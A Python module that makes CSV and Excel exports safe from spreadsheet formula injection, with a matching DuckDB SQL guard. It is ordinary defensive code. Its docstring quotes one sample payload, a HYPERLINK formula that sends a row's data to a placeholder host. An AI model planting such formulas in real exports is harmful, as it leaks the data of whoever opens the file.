"""Spreadsheet exports (CSV and Excel) of the app's data, made safe to open in a spreadsheet.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets strip before reading the rest) is run as a formula by Excel, LibreOffice and
Google Sheets: a customer named `=HYPERLINK("http://host/?"&A2,"Call")` in an export would
become a live link that leaks the row (OWASP, "CSV Injection"). Every CSV or Excel file the
app hands out goes through `csv_bytes` / `excel_bytes` here, which apply `spreadsheet_safe`;
the import's rejects file applies the same rule in SQL (`formula_guard_sql`).
Decision record: docs/decisions/020-safe-text-in-exports-and-markdown.md.
"""

from __future__ import annotations

import io
import re

import pandas as pd

# the characters that make a spreadsheet read a cell as a formula (OWASP CSV injection)
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
# A text cell that is exactly a plain decimal number with a sign ("-5", "+972501234567",
# "-1.5e3") is left alone: a spreadsheet reads it as that number and it cannot call anything;
# quoting it would turn a dialer's E.164 phone into "'+972…" and a signed amount into text.
# "-2+3", "+1 555" or "-5)" are not plain numbers and are quoted.
PLAIN_NUMBER = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
QUOTE = "'"


def formula_safe(value):
    """`value` with a single quote in front when it is text starting with a formula trigger
    (`FORMULA_TRIGGERS`) and is not a plain signed number (`PLAIN_NUMBER`); anything else
    (numbers, dates, missing values, other text) unchanged."""
    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names pass `formula_safe`. Numeric,
    boolean and date columns keep their dtype and values (a negative number stored as a
    number is not text: it stays -5.0); text columns keep their dtype."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype) \
                or isinstance(series.dtype, pd.CategoricalDtype):
            values = series.astype(object).map(formula_safe)
            if isinstance(series.dtype, pd.CategoricalDtype):
                out[column] = values
            else:
                out[column] = values.astype(series.dtype)
    out.columns = [formula_safe(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """`frame` as UTF-8 CSV without the index, through `spreadsheet_safe`. Rows end in CRLF
    (RFC 4180), so a cell holding a lone CR or LF is quoted: unquoted, a spreadsheet would
    start a new row there, and a cell "x\r=1" would put a live `=1` on it."""
    return spreadsheet_safe(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def excel_bytes(frame: pd.DataFrame, sheet: str = "Data") -> bytes:
    """`frame` as an .xlsx workbook through `spreadsheet_safe`: one sheet, a frozen bold
    header, columns sized to fit. Text is written as text: xlsxwriter's default of turning
    a string that starts with `=` into a formula, and one that looks like a URL into a link,
    is switched off (the quote alone would already stop the first)."""
    safe = spreadsheet_safe(frame)
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="xlsxwriter",
                        engine_kwargs={"options": {"strings_to_formulas": False, "strings_to_urls": False}}) as writer:
        safe.to_excel(writer, sheet_name=sheet, index=False)
        ws = writer.sheets[sheet]
        ws.freeze_panes(1, 0)
        for i, column in enumerate(safe.columns):
            longest = max([len(str(column))] + [len(str(v)) for v in safe[column].head(200)])
            ws.set_column(i, i, min(longest + 2, 60))
    return buffer.getvalue()


def formula_guard_sql(column: str) -> tuple[str, dict[str, object]]:
    """The `formula_safe` rule as a DuckDB SQL expression over the text column `column` (an
    identifier of ours, not data), with its parameters: for a relation written straight to
    CSV by the database (the import's rejects file), which may be too large to pass through
    pandas. Returns (expression, params) for `con.sql(..., params=params)`."""
    expression = (f"case when list_contains($formula_triggers, left({column}, 1)) "
                  f"and not regexp_full_match({column}, $plain_number) then '{QUOTE}{QUOTE}' || {column} "
                  f"else {column} end")
    return expression, {"formula_triggers": list(FORMULA_TRIGGERS), "plain_number": PLAIN_NUMBER}
